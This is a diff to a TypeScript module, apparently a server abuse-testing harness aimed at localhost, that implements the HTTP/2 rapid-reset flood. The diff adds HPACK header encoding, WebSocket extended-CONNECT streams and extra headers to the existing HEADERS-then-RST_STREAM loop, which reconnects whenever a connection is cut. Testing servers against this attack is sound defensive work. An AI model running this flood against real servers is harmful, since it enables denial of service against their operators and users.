@@ -52,10 +52,29 @@ function frame (type: number, payload: Buffer, flags = 0, streamId = 0): Buffer 
   return Buffer.concat([header, payload])
 }
 
-/** A GET's header block in HPACK without the dynamic table: static-table :method GET and :scheme https, literal :authority and :path. */
-function getHeaderBlock (path: string): Buffer {
-  const literal = (index: number, value: string): Buffer => Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, 'latin1')])
-  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x01, 'localhost'), literal(0x04, path)])
+/** An HPACK integer (RFC 7541 §5.1) with a `prefixBits`-bit prefix, the byte's other bits zero. */
+function hpackInteger (value: number, prefixBits: number): Buffer {
+  const max = (1 << prefixBits) - 1
+  if (value < max) return Buffer.from([value])
+  const bytes = [max]
+  for (value -= max; value >= 128; value = Math.floor(value / 128)) bytes.push((value % 128) | 0x80)
+  bytes.push(value)
+  return Buffer.from(bytes)
+}
+
+/** A header block of literal fields with new names, without indexing (RFC 7541 §6.2.2): no dynamic table to keep. */
+function headerBlock (fields: Array<[string, string]>): Buffer {
+  const string = (text: string): Buffer[] => [hpackInteger(Buffer.byteLength(text, 'latin1'), 7), Buffer.from(text, 'latin1')]
+  return Buffer.concat(fields.flatMap(([name, value]) => [Buffer.from([0x00]), ...string(name), ...string(value)]))
+}
+
+/** The request each stream opens: a GET (ended at once), or an extended CONNECT for a WebSocket (left open, as a browser's is). */
+function requestHeaderBlock (path: string, webSocket: boolean, extra: Record<string, string>): { block: Buffer, flags: number } {
+  const fields: Array<[string, string]> = webSocket
+    ? [[':method', 'CONNECT'], [':protocol', 'websocket'], [':scheme', 'https'], [':authority', 'localhost'], [':path', path], ['sec-websocket-version', '13']]
+    : [[':method', 'GET'], [':scheme', 'https'], [':authority', 'localhost'], [':path', path]]
+  const block = headerBlock([...fields, ...Object.entries(extra)])
+  return { block, flags: webSocket ? FLAG.END_HEADERS : FLAG.END_STREAM | FLAG.END_HEADERS }
 }
 
 interface RawSession {
@@ -149,6 +168,10 @@ async function overConnections (target: Target, budget: { units: number, connect
 
 export interface RapidResetOptions {
   path: string
+  /** Open each stream as an extended CONNECT for a WebSocket (RFC 8441) instead of a GET. */
+  webSocket?: boolean
+  /** More header fields for each stream (an Authorization header, say). */
+  headers?: Record<string, string>
   /** Streams to open and cancel in all. */
   streams: number
   /** Streams per connection at most; an attacker also reconnects when the server cuts it. */
@@ -158,10 +181,10 @@ export interface RapidResetOptions {
   maxMs: number
 }
 
-/** Rapid reset: HEADERS for a GET then RST_STREAM CANCEL on stream 1, 3, 5…; a new connection when one is cut or has had its share. */
+/** Rapid reset: HEADERS for a GET (or a CONNECT) then RST_STREAM CANCEL on stream 1, 3, 5…; a new connection when one is cut or has had its share. */
 export async function rapidReset (target: Target, options: RapidResetOptions): Promise<AbuseResult> {
   const batch = options.batch ?? 100
-  const block = getHeaderBlock(options.path)
+  const { block, flags } = requestHeaderBlock(options.path, options.webSocket === true, options.headers ?? {})
   const rst = Buffer.alloc(4)
   rst.writeUInt32BE(CANCEL)
   return await overConnections(target, { units: options.streams, connections: Number.POSITIVE_INFINITY, maxMs: options.maxMs }, async (session, remaining, deadline) => {
@@ -171,7 +194,7 @@ export async function rapidReset (target: Target, options: RapidResetOptions): P
       const count = Math.min(batch, share - session.conn.sent)
       const frames: Buffer[] = []
       for (let i = 0; i < count; i++, streamId += 2) {
-        frames.push(frame(TYPE.HEADERS, block, FLAG.END_STREAM | FLAG.END_HEADERS, streamId), frame(TYPE.RST_STREAM, rst, 0, streamId))
+        frames.push(frame(TYPE.HEADERS, block, flags, streamId), frame(TYPE.RST_STREAM, rst, 0, streamId))
       }
       await session.write(Buffer.concat(frames))
       session.conn.sent += count
